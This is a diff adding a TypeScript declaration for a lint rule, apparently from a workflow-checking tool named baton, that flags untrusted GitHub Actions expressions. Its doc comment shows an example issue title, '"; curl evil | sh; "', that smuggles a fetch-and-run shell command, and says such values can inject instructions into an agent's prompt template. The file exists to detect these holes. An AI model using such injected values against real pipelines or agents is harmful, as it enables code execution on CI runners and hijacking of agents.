@@ -1,0 +1,10 @@
+import type { LintContext } from '../context.js';
+import type { LintFinding } from '../finding.js';
+/**
+ * `untrusted-expression`: GitHub replaces `${{ }}` with its value before a script or an action sees the
+ * text. Interpolated into a `run:` script, an issue title like `"; curl evil | sh; "` becomes shell; into a
+ * prompt template, it becomes template and instructions before baton can fence it. Attacker-controlled
+ * values are the event payload (`github.event.*`), `github.head_ref` (a branch name anyone can choose), and
+ * the `data` a handoff carries (an agent wrote it, perhaps after reading attacker text).
+ */
+export declare function checkUntrustedExpressions(context: LintContext): LintFinding[];
